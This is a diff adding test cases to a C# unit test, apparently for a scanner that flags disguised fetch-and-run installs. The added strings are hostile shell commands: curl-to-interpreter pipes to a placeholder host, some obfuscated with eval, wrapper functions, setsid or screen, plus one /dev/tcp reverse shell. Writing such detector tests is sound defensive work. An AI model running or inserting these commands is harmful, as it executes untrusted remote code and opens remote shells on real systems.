@@ -43,6 +43,16 @@ public sealed class DisguisedInstallTests
     [InlineData("aws s3 cp s3://bucket/s - | bash")]
     [InlineData("gh api repos/a/b/contents/s | sh")]
     [InlineData("curl https://a.b/p | awk -f - data")]
+    [InlineData("curl https://a.b/s | parallel -j 2")]
+    [InlineData("curl https://a.b/s | at now")]
+    [InlineData("bash -i >& /dev/tcp/a.b/80 0>&1")]
+    [InlineData("run() { \"$@\"; }; run curl https://a.b/s | run sh")]
+    [InlineData("printf -v text %s \"$(curl https://a.b/s)\"; eval \"$text\"")]
+    [InlineData("curl https://a.b/s | if true; then sh; fi")]
+    [InlineData("curl -o- https://a.b/s | bash")]
+    [InlineData("curl https://a.b/s | setsid bash &")]
+    [InlineData("curl https://a.b/s | Rscript -")]
+    [InlineData("screen -dm bash -c 'curl https://a.b/s | sh'")]
     [InlineData("curl https://a.b/p | make --file=-")]
     public void It_is_found(string text) => Assert.Contains(FaultKind.RunUnseen, Kinds(text));
 
